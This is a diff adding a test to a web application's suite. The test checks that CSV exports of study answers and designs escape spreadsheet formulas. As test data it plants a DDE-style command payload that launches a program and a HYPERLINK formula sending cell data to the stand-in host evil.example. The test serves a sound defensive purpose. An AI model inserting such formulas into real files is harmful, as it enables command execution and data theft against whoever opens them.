@@ -429,3 +429,26 @@ def test_an_admin_records_a_readers_qualification_for_the_report(
     assert cleared.select_one('input[name="qualification"]')["value"] == ""
     reader = as_user(demo_engine, settings, "reader-0")
     assert reader.post(f"/studies/{sid}/readers/{reader_id}", data={}).status_code == 403
+
+
+def test_exports_neutralise_spreadsheet_formulas(demo_engine: Engine, settings: Settings,
+                                                 reader: TestClient, study: StudySetup) -> None:
+    import csv
+    import io
+
+    sid = study.study.id
+    with Session(demo_engine) as s:  # imported text that a spreadsheet would run
+        item = s.scalars(select(StudyItem).where(col(StudyItem.study_id) == sid)).first()
+        assert item is not None
+        task = s.get(Task, item.task_id)
+        assert task is not None
+        task.task_key = "@SUM(1+1)*cmd|' /C calc'!A0"
+        s.commit()
+    comment = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    reader.post(f"/read/{sid}/1", data=FORM | {"submission_id": "sub-formula-1", "comment": comment})
+    admin = as_user(demo_engine, settings, "study-admin", Role.admin)
+    rows = list(csv.DictReader(io.StringIO(admin.get(f"/studies/{sid}/answers.csv").text)))
+    assert rows[0]["comment"] == "'" + comment
+    design = list(csv.DictReader(io.StringIO(admin.get(f"/studies/{sid}/design.csv").text)))
+    assert {r["task_key"] for r in design if r["task_key"].startswith(("'@", "@"))} == {
+        "'@SUM(1+1)*cmd|' /C calc'!A0"}
